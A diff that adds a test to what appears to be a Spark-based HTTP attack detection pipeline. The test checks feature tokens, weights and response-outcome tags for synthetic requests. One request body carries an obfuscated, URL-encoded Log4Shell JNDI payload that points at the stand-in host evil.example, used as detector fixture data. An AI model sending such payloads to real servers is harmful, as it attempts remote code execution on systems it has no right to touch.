@@ -270,6 +270,37 @@ def test_retrieval_model(spark, traffic, tmp_path):
     assert all(r.y_pred == r.label_binary for r in rows) and all((r.predicted_attack_type == r.attack_type) for r in rows if r.attack_type in ("Benign", "SQL Injection"))
 
 
+def test_bag_sees_the_whole_request(spark, tmp_path):
+    def one(url, body, headers, status="200"):
+        return {"request": {"headers": {"Host": "h.example"} | headers, "method": "POST", "url": url, "body": body, "Attack_Tag": "LOG4J"}, "response": {"status": "x", "headers": {"Content-Type": "application/json"}, "status_code": status, "body": "{}"}}
+
+    def bags(*requests):
+        folder = tmp_path / str(len(list(tmp_path.iterdir())))
+        folder.mkdir()
+        (folder / "dataset_1_train.json").write_text(json.dumps(requests))
+        df = api.features(api.normalize(readers.api_json(spark, str(folder))))
+        both = [api.bag(df, context).select("url", "bag").collect() for context in (False, True)]
+        return [{r.url: [(t.token, t.weight) for t in r.bag] for r in rows} for rows in both]
+
+    usual = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/20100101 Firefox/1.0", "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
+    late = "name=reader%20of%20many%20books&note=" + "%2520".join("abcdefgh") + "%24%7B%24%7Blower:j%7Dndi:ldap://evil.example/x%7D"
+    many = "&".join(f"k{i}={'+'.join(f'w{i}x{j}' for j in range(40))}" for i in range(9))
+    plain, answered = bags(one("http://h.example/docs/list/of/books?Page=2&Sort=up%2520down", late, usual), one("http://h.example/many?" + many, "tail", {}, "403"))
+    got = plain["http://h.example/docs/list/of/books?Page=2&Sort=up%2520down"]
+    assert sum(w for t, w in got if t == "family:payload_log4j") == 8
+    for t in ("request_body:jndi", "body_raw:ldap", "payload_token:evil", "query_value:sort:up", "query_value:sort:down", "query_key_set:page", "request_header_names:user-agent", "host:h.example", "path_template:/docs/list/of/books", "context:docs", "method:post", "path:books"):
+        assert t in dict(got), t
+    weights = dict(got)
+    assert weights["method:post"] == weights["path:list"] == 1 and weights["attack_log4j"] == 8 and weights["flag:request_contains_log4j"] == 6 and weights["flag:request_method_is_post"] == weights["flag:parse_status_ok"] == 1
+    assert not any(t.startswith(("impact:", "outcome:", "flag:response", "flag:suspicious")) for t, _ in got)
+    first = answered["http://h.example/docs/list/of/books?Page=2&Sort=up%2520down"]
+    assert sum(w for t, w in first if t == "impact:log4j_request_got_2xx") == 4 and {"outcome:accepted", "response_status_family:2xx"} <= set(dict(first)) and dict(first)["flag:log4j_request_got_2xx"] == 3 and "flag:response_content_type_is_json" in dict(first)
+    blocked = answered["http://h.example/many?" + many]
+    assert {"outcome:blocked", "response_status_family:4xx"} <= set(dict(blocked))
+    payload = [t for t, _ in plain["http://h.example/many?" + many] if t.startswith(("query_value:", "payload_token:", "request_body:"))]
+    assert len(payload) == 256 and {sum(t.startswith(f"query_value:k{i}:") for t in payload) for i in range(4)} == {32} and "query_value:k0:w0x32" not in payload and not any(t.startswith("query_value:k4:") for t in payload)
+
+
 def test_tabular(spark):
     df = spark.range(200).select((F.col("id") % 2).cast("int").alias("y"), (F.col("id") % 2 + F.rand(1)).alias("a"), F.rand(2).alias("b"), F.lit("t").alias("name"))
     assert tabular.resolve(df, metadata=["y"]) == ["a", "b"] and tabular.resolve(df, {"x": ["b", "name"]}, use=["x"], include=["a", "b"]) == ["b", "a"]
